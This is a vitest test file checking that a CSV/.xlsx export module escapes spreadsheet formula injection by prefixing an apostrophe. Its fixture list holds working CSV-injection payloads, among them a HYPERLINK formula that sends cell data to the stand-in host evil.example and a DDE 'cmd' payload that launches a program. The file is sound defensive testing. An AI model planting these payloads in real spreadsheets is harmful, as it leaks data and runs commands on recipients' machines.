/**
 * Table exports must not carry formulas: a value someone typed as `=HYPERLINK(…)` (a member's name, a
 * case's text) is written as text in the CSV and the .xlsx, with a leading apostrophe.
 */
import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { neutralizeFormula, toCsv, toXlsx, type ExportSpec } from './export';

type Row = { name: string; note: string | null; count: number };
const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
const spec: ExportSpec<Row> = {
  filename: 'danh-sach',
  columns: [{ header: 'Họ và tên', value: (r) => r.name }, { header: 'Ghi chú', value: (r) => r.note }, { header: 'Số lượng', value: (r) => r.count }],
  rows: [
    ...PAYLOADS.map((p, i) => ({ name: p, note: null, count: -(i + 1) })),
    { name: 'Nguyễn Thị Hoà', note: 'Hội viên, 2 năm', count: 12 },
  ],
};

describe('exports keep formulas as text', () => {
  it('neutralizeFormula prefixes what a spreadsheet would evaluate, and nothing else', () => {
    for (const p of PAYLOADS) expect(neutralizeFormula(p)).toBe(`'${p}`);
    expect(neutralizeFormula('Nguyễn Văn An')).toBe('Nguyễn Văn An');
    expect(neutralizeFormula('a=b')).toBe('a=b');
    expect(neutralizeFormula(-5)).toBe(-5); // a number is a number
    expect(neutralizeFormula(null)).toBeNull();
  });

  it('CSV: every such cell starts with an apostrophe (inside the quotes when quoted)', () => {
    const lines = toCsv(spec).replace(/^\ufeff/, '').split('\r\n');
    expect(lines[0]).toBe('Họ và tên,Ghi chú,Số lượng');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",,-1`);
    expect(lines[3]).toBe("'-2+3,,-3");
    expect(lines[4]).toBe("'@SUM(A1:A9),,-4");
    expect(lines[8]).toBe('Nguyễn Thị Hoà,"Hội viên, 2 năm",12');
    // No cell of the file begins a formula.
    for (const line of lines.slice(1, 1 + PAYLOADS.length)) expect(line).toMatch(/^"?'/);
  });

  it('.xlsx: the same cells are text with the apostrophe, never formulas; numbers stay numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await toXlsx(spec));
    const ws = wb.worksheets[0];
    PAYLOADS.forEach((p, i) => {
      const cell = ws.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(`'${p}`.replace(/\r/g, '\n')); // XML keeps no bare CR
      expect(ws.getRow(i + 2).getCell(3).value).toBe(-(i + 1));
    });
    expect(ws.getRow(PAYLOADS.length + 2).getCell(1).value).toBe('Nguyễn Thị Hoà');
  });
});
